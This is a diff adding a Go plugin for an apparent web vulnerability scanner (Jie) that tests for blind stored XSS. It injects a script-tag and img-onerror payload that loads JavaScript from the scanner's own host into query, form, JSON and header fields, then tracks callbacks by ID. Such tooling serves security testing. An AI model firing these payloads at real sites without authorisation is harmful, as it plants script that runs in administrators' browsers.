@@ -0,0 +1,260 @@
+package blindxss
+
+import (
+    "encoding/json"
+    "fmt"
+    "github.com/yhy0/Jie/conf"
+    "github.com/yhy0/Jie/pkg/input"
+    "github.com/yhy0/Jie/pkg/output"
+    "github.com/yhy0/Jie/pkg/protocols/httpx"
+    "github.com/yhy0/Jie/pkg/util"
+    "github.com/yhy0/Jie/scan/gadget/tracker"
+    "github.com/yhy0/logging"
+    "net/url"
+    "strings"
+    "sync"
+    "time"
+)
+
+/**
+   @author yhy
+   @since 2024/7/4
+   @desc 盲打 xss，后台等页面中输出的用户输入在扫描的响应中看不到，注入加载回连脚本的 payload，页面被打开时脚本回连到 Jie
+        1. 参数: 查询参数、表单参数、JSON 中的所有字符串值，一次请求
+        2. 请求头: User-Agent、Referer，同一个路径只注入一次
+        每个注入点使用唯一的 id，回连时根据 id 关联到注入的请求，同时交给 tracker，在爬虫能看到的页面中输出时也能发现
+**/
+
+type Plugin struct {
+    SeenRequests sync.Map
+}
+
+const (
+    maxInjections = 50000 // 最多记录的注入点，超过时丢弃最早的
+    maxPages      = 20    // 每个注入点最多输出的触发页面数
+)
+
+// injection 注入的请求
+type injection struct {
+    id       string
+    url      string
+    method   string
+    location string // parameter、body parameter、json、header
+    name     string
+    payload  string
+    request  string
+    time     time.Time
+    pages    map[string]bool // 已经输出过的触发页面
+    sink     *output.Sink    // 注入的扫描任务，回连只输出给它
+}
+
+var (
+    lock       sync.Mutex
+    injections = make(map[string]*injection)
+    order      []string
+)
+
+// trigger 记录 id 在 page 中触发，返回注入点的副本，回连可能和 setRequest 同时发生
+// known 为 false 说明 id 不是这次扫描注入的，页面已经输出过时返回的注入点为空
+func trigger(id, page string) (inj *injection, known bool) {
+    lock.Lock()
+    defer lock.Unlock()
+    pt, ok := injections[id]
+    if !ok {
+        return nil, false
+    }
+    if pt.pages[page] || len(pt.pages) >= maxPages {
+        return nil, true
+    }
+    pt.pages[page] = true
+    c := *pt
+    return &c, true
+}
+
+// payload script 标签和 img onerror 动态加载两种方式
+func payload(id string) string {
+    src := fmt.Sprintf("%s/x/%s.js", baseUrl(), id)
+    return fmt.Sprintf(`'"><script src=%s></script><img src=x onerror="import('%s')">`, src, src)
+}
+
+func (p *Plugin) Scan(target string, path string, in *input.CrawlResult, client *httpx.Client) {
+    if in.ParseUrl == nil || p.IsScanned(in.UniqueId) {
+        return
+    }
+    if !start() {
+        return
+    }
+    p.params(in, client)
+    if !p.IsScanned("headers|" + in.Host + in.ParseUrl.Path) {
+        p.headers(in, client)
+    }
+}
+
+// params 所有参数一次注入
+func (p *Plugin) params(in *input.CrawlResult, client *httpx.Client) {
+    var points []*injection
+    newPoint := func(location, name string) string {
+        pt := newInjection(in, location, name)
+        points = append(points, pt)
+        return pt.payload
+    }
+    
+    target, body := in.Url, in.RequestBody
+    if query := in.ParseUrl.Query(); len(query) > 0 {
+        for name := range query {
+            if util.SliceInCaseFold(name, util.ParamFilter) {
+                continue
+            }
+            query.Set(name, newPoint("parameter", name))
+        }
+        u := *in.ParseUrl
+        u.RawQuery = query.Encode()
+        target = u.String()
+    }
+    
+    contentType := strings.ToLower(in.ContentType)
+    if in.RequestBody != "" && strings.Contains(contentType, "json") {
+        var v interface{}
+        if err := json.Unmarshal([]byte(in.RequestBody), &v); err == nil {
+            v = replaceStrings(v, "", func(name string) string {
+                return newPoint("json", name)
+            })
+            if data, err := json.Marshal(v); err == nil {
+                body = string(data)
+            }
+        }
+    } else if in.RequestBody != "" {
+        variations, err := httpx.ParseUri(in.Url, []byte(in.RequestBody), "POST", in.ContentType, in.Headers)
+        if err == nil {
+            for _, param := range variations.Params {
+                if param.IsFile || util.SliceInCaseFold(param.Name, util.ParamFilter) {
+                    continue
+                }
+                value := newPoint("body parameter", param.Name)
+                // 表单 Release 时不会编码
+                if !strings.Contains(contentType, "multipart") {
+                    value = url.QueryEscape(value)
+                }
+                _ = variations.Set(param.Name, value)
+            }
+            body = variations.Release()
+        }
+    }
+    if len(points) == 0 {
+        return
+    }
+    
+    res, err := client.Request(target, in.Method, body, in.Headers)
+    if err != nil {
+        logging.Logger.Debugln("[blindxss]", err)
+        return
+    }
+    setRequest(points, res.RequestDump, client.Sink)
+}
+
+// headers User-Agent、Referer 常被记录到日志、后台中
+func (p *Plugin) headers(in *input.CrawlResult, client *httpx.Client) {
+    headers := make(map[string]string)
+    for k, v := range in.Headers {
+        if strings.EqualFold(k, "User-Agent") || strings.EqualFold(k, "Referer") {
+            continue
+        }
+        headers[k] = v
+    }
+    
+    var points []*injection
+    for _, name := range []string{"User-Agent", "Referer"} {
+        pt := newInjection(in, "header", name)
+        points = append(points, pt)
+        headers[name] = pt.payload
+    }
+    
+    res, err := client.Request(in.Url, in.Method, in.RequestBody, headers)
+    if err != nil {
+        logging.Logger.Debugln("[blindxss]", err)
+        return
+    }
+    setRequest(points, res.RequestDump, client.Sink)
+}
+
+// replaceStrings 将 JSON 中所有的字符串值替换为 payload
+func replaceStrings(v interface{}, name string, replace func(name string) string) interface{} {
+    switch value := v.(type) {
+    case string:
+        return replace(name)
+    case map[string]interface{}:
+        for k, item := range value {
+            key := k
+            if name != "" {
+                key = name + "." + k
+            }
+            value[k] = replaceStrings(item, key, replace)
+        }
+    case []interface{}:
+        for i, item := range value {
+            value[i] = replaceStrings(item, fmt.Sprintf("%s[%d]", name, i), replace)
+        }
+    }
+    return v
+}
+
+// newInjection 生成唯一的 id 并记录注入点
+func newInjection(in *input.CrawlResult, location, name string) *injection {
+    id := tracker.Token()
+    pt := &injection{id: id, url: in.Url, method: in.Method, location: location, name: name, payload: payload(id), time: time.Now(), pages: make(map[string]bool)}
+    lock.Lock()
+    defer lock.Unlock()
+    injections[id] = pt
+    order = append(order, id)
+    for len(order) > maxInjections {
+        delete(injections, order[0])
+        order = order[1:]
+    }
+    return pt
+}
+
+// setRequest 发送后记录注入的请求和扫描任务，同时交给 tracker，payload 在能够爬到的页面中原样输出时也会发现
+func setRequest(points []*injection, request string, sink *output.Sink) {
+    lock.Lock()
+    for _, pt := range points {
+        pt.request = request
+        pt.sink = sink
+    }
+    lock.Unlock()
+    
+    for _, pt := range points {
+        tracker.Register(pt.id, tracker.Origin{
+            Plugin:  "Blind XSS",
+            Kind:    "stored xss",
+            Level:   output.High,
+            Url:     pt.url,
+            Method:  pt.method,
+            Param:   pt.location + " " + pt.name,
+            Payload: pt.payload,
+            Request: request,
+            Sink:    sink,
+            Executable: func(response, token string) bool {
+                return strings.Contains(response, "<script src="+baseUrl()+"/x/"+token+".js>")
+            },
+        })
+    }
+}
+
+func (p *Plugin) IsScanned(key string) bool {
+    if key == "" {
+        return false
+    }
+    if _, ok := p.SeenRequests.Load(key); ok {
+        return true
+    }
+    p.SeenRequests.Store(key, true)
+    return false
+}
+
+func (p *Plugin) Name() string {
+    return "blindxss"
+}
+
+func (p *Plugin) Risk() string {
+    return conf.RiskIntrusive
+}